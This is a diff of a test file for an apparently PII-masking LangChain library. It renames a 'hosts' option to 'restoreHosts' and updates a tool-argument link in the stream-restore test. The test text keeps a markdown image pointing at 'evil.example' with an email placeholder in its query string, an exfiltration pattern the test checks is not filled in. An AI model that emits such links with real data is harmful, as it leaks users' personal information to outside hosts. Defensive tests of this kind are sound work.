@@ -188,13 +188,13 @@ describe("a model is protected", () => {
     assert.equal(asked.length, 0);
     assert.throws(() => protectModel({}), refusal("model"));
     assert.throws(() => protectModel(new Whole([]), { tools: "some" }), refusal("tools"));
-    assert.throws(() => protectMiddleware({ hosts: 1 }), refusal("hosts"));
+    assert.throws(() => protectMiddleware({ restoreHosts: 1 }), refusal("restoreHosts"));
   });
 });
 
 describe("a stream is restored, cut anywhere", () => {
-  const args = JSON.stringify({ to: "[[EMAIL_2]]", note: 'say "hi" to [[NAME_1]]', link: "https://evil.example/?q=[[NAME_1]]" });
-  const wanted = { to: "jan.novak@example.cz", note: 'say "hi" to Emily Carter', link: "https://evil.example/?q=[[NAME_1]]" };
+  const args = JSON.stringify({ to: "[[EMAIL_2]]", note: 'say "hi" to [[NAME_1]]', link: "/people/[[NAME_1]]" });
+  const wanted = { to: "jan.novak@example.cz", note: 'say "hi" to Emily Carter', link: "/people/Emily Carter" };
   const text = "Dear [[NAME_1]], a[0] ![x](https://evil.example/?q=[[EMAIL_2]]) [[EMAIL_2]] [[NA";
   const restored = "Dear Emily Carter, a[0] ![x](https://evil.example/?q=[[EMAIL_2]]) jan.novak@example.cz [[NA";
   for (const size of [1, 3, 7, 1_000]) {
@@ -273,7 +273,7 @@ test("the types are those of LangChain", () => {
     import { createAgent, type AgentMiddleware } from "langchain";
     import { FakeListChatModel } from "@langchain/core/utils/testing";
     import { protectMiddleware, protectModel, type PromptOptions } from "textveil/langchain";
-    const options: PromptOptions = { hosts: ["example.com"], tools: "all" };
+    const options: PromptOptions = { restoreHosts: ["example.com"], tools: "all" };
     const model: FakeListChatModel = protectModel(new FakeListChatModel({ responses: ["x"] }), options);
     const middleware: AgentMiddleware = protectMiddleware(options);
     createAgent({ model, tools: [], middleware: [middleware, protectMiddleware()] });
